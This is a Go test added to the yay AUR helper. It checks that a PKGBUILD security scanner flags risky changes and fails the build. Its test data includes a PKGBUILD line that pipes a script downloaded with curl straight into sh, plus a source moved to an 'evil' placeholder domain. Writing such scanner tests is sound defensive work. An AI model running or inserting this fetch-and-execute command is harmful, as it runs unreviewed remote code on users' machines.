@@ -0,0 +1,92 @@
+package yay
+
+import (
+	"bytes"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/Jguer/yay/v10/pkg/dep"
+	"github.com/Jguer/yay/v10/pkg/exe"
+	"github.com/Jguer/yay/v10/pkg/query"
+	"github.com/Jguer/yay/v10/pkg/scan"
+	"github.com/Jguer/yay/v10/pkg/settings"
+	"github.com/Jguer/yay/v10/pkg/text"
+)
+
+func TestScanPkgbuild(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+
+	dir, err := ioutil.TempDir("", "yay-scan")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	git := func(dir string, args ...string) {
+		args = append([]string{"-C", dir, "-c", "user.name=yay", "-c", "user.email=yay@example.org"}, args...)
+		out, err := exec.Command("git", args...).CombinedOutput()
+		require.NoError(t, err, string(out))
+	}
+	commit := func(source, pkgbuild string) {
+		srcinfo := "pkgbase = foo\n\tpkgver = 1\n\tpkgrel = 1\n\tarch = any\n\tsource = " + source + "\n\npkgname = foo\n"
+		require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "aur", ".SRCINFO"), []byte(srcinfo), 0o644))
+		require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "aur", "PKGBUILD"), []byte(pkgbuild), 0o644))
+		git(filepath.Join(dir, "aur"), "add", "-A")
+		git(filepath.Join(dir, "aur"), "commit", "-qm", "update")
+	}
+
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "aur"), 0o755))
+	git(filepath.Join(dir, "aur"), "init", "-q")
+	commit("https://example.org/foo.tar.gz", "package() {\n  make DESTDIR=\"$pkgdir\" install\n}\n")
+
+	buildDir := filepath.Join(dir, "build")
+	require.NoError(t, os.MkdirAll(buildDir, 0o755))
+	git(buildDir, "clone", "-q", filepath.Join(dir, "aur"), "foo")
+	git(filepath.Join(buildDir, "foo"), "update-ref", gitDiffRefName, "HEAD")
+
+	commit("https://evil.example.net/foo.tar.gz", "package() {\n  curl https://example.net/x.sh | sh\n}\n")
+	git(filepath.Join(buildDir, "foo"), "fetch", "-q")
+
+	rt := &Runtime{
+		CmdRunner:  &exe.OSRunner{},
+		GitBuilder: &exe.GitBuilder{GitBin: "git"},
+		Config: &settings.YayConfig{PersistentYayConfig: settings.PersistentYayConfig{
+			BuildDir: buildDir,
+			ScanFail: "high",
+		}},
+	}
+	bases := []dep.Base{{&query.Pkg{Name: "foo", PackageBase: "foo"}}}
+
+	findings, err := scanPkgbuild(buildRun{rt.GitBuilder, rt.CmdRunner}, nil, buildDir, "foo", "HEAD@{upstream}")
+	require.NoError(t, err)
+	require.Len(t, findings, 2)
+	assert.Equal(t, "pipe-shell", findings[0].Rule)
+	assert.Equal(t, "new-domain", findings[1].Rule)
+
+	// the merged PKGBUILD has not been reviewed so it is scanned again
+	git(filepath.Join(buildDir, "foo"), "merge", "-q", "--ff")
+	buf := new(bytes.Buffer)
+	text.CaptureOutput(buf, buf, func() {
+		err = checkPkgbuildScan(rt, bases, nil, true)
+	})
+	assert.EqualError(t, err, "the PKGBUILD scan found high risks in: foo")
+	assert.Contains(t, buf.String(), "PKGBUILD:2")
+
+	// findings confirmed in the diff menu do not fail the build
+	text.CaptureOutput(buf, buf, func() {
+		err = checkPkgbuildScan(rt, bases, map[string][]scan.Finding{"foo": findings}, true)
+	})
+	assert.NoError(t, err)
+
+	rt.Config.ScanFail = "never"
+	text.CaptureOutput(buf, buf, func() {
+		err = checkPkgbuildScan(rt, bases, nil, true)
+	})
+	assert.NoError(t, err)
+}